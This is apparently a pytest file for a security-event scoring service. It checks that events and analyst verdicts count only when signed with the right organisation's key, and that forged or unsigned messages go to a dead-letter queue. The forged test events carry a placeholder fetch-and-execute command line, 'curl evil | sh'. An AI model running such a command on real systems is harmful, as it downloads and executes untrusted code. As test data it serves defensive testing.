"""Tenancy (issue 15): with `tenancy.signed`, an org's events and verdicts count only
when signed with that org's key; the rest is dead-lettered as Unauthenticated. Real
broker, a real `ruleless worker` process, the real agent publisher and feedback CLI code."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from pydantic import SecretStr

from agent.publish import KafkaPublisher
from ruleless.kafka import producer
from ruleless.settings import Settings
from ruleless.tenancy import HEADER, sign_headers, verify
from schemas.errors import Unauthenticated
from schemas.events import Feedback, decode_scored, encode
from tests.factories import event
from tests.processes import drain, ruleless_process

KEYS = {"acme": SecretStr("acme-agents-key"), "globex": SecretStr("globex-agents-key")}
ANALYSTS = {"acme": SecretStr("acme-analysts-key")}


def test_only_the_named_orgs_key_verifies() -> None:
    value = b'{"org_id": "acme"}'
    verify(KEYS, "acme", value, sign_headers(KEYS["acme"], value), "raw event")
    with pytest.raises(Unauthenticated, match="not that org's"):
        verify(KEYS, "globex", value, sign_headers(KEYS["acme"], value), "raw event")
    with pytest.raises(Unauthenticated, match="not that org's"):
        verify(KEYS, "acme", value + b" ", sign_headers(KEYS["acme"], value), "raw event")
    with pytest.raises(Unauthenticated, match="no ruleless-sig header"):
        verify(KEYS, "acme", value, None, "raw event")
    with pytest.raises(Unauthenticated, match="no key is configured"):
        verify(KEYS, "initech", value, sign_headers(KEYS["acme"], value), "raw event")
    # Faust hands headers over as a mapping or as (str, bytes) pairs; librdkafka as pairs.
    verify(KEYS, "acme", value, {HEADER: sign_headers(KEYS["acme"], value)[0][1]}, "raw event")  # type: ignore[index]


@pytest.mark.integration
def test_a_worker_with_signed_tenancy_scores_only_what_each_org_signed(topics: Settings, tmp_path: Path) -> None:
    signed = topics.model_copy(update={"tenancy": topics.tenancy.model_copy(update={
        "signed": True, "agent_keys": KEYS, "analyst_keys": ANALYSTS})})  # fmt: skip
    t = topics.topics
    genuine = [event(org_id="acme", pid=100 + i, cmdline=f"nginx -s reload {i}") for i in range(20)]
    genuine += [event(org_id="globex", pid=200 + i, cmdline=f"cron job {i}") for i in range(20)]
    forged = [event(org_id="globex", pid=300 + i, cmdline=f"curl evil | sh {i}") for i in range(10)]  # acme's key
    unsigned = [event(org_id="acme", pid=400 + i, cmdline=f"id {i}") for i in range(10)]

    with ruleless_process(signed, "worker", log=tmp_path / "worker.log"):
        for org in ("acme", "globex"):  # the agent's own publisher, with its org's key
            agent = KafkaPublisher(topics.kafka, t.raw, signing_key=KEYS[org])
            for e in genuine:
                if e.org_id == org:
                    agent.publish(e)
            assert agent.flush(30) == 0
        prod = producer(topics.kafka)
        for e in forged:
            value = encode(e)
            prod.produce(t.raw, key=e.shard_key.encode(), value=value, headers=sign_headers(KEYS["acme"], value))
        for e in unsigned:
            prod.produce(t.raw, key=e.shard_key.encode(), value=encode(e))
        # Verdicts: one by acme's analysts on an acme event, one with acme's analyst key on a globex event.
        for target, key in ((genuine[0], ANALYSTS["acme"]), (genuine[25], ANALYSTS["acme"])):
            value = encode(Feedback(event=target, label="benign", ts=target.ts + 1, analyst="eve"))
            prod.produce(t.feedback, key=target.shard_key.encode(), value=value, headers=sign_headers(key, value))
        assert prod.flush(30) == 0
        got = drain(topics, [t.scored, t.dead_letter],
                    lambda g: len(g[t.scored]) >= len(genuine) and len(g[t.dead_letter]) >= len(forged) + len(unsigned) + 1)

    scored = {decode_scored(m).event_id for m in got[t.scored]}
    assert scored == {e.event_id for e in genuine}
    dead = [json.loads(m) for m in got[t.dead_letter]]
    assert len(dead) == len(forged) + len(unsigned) + 1, [d["reason"] for d in dead]
    assert all(d["error"] == "Unauthenticated" for d in dead), [d["reason"] for d in dead]
    assert sum("globex" in d["reason"] and "not that org's" in d["reason"] for d in dead) == len(forged)
    assert sum("no ruleless-sig header" in d["reason"] for d in dead) == len(unsigned)
    assert sum(d["stage"] == "feedback" and "globex" in d["reason"] for d in dead) == 1
    log = (tmp_path / "worker.log").read_text(errors="replace")
    assert f"feedback benign on {genuine[0].event_id}" in log, log[-2000:]
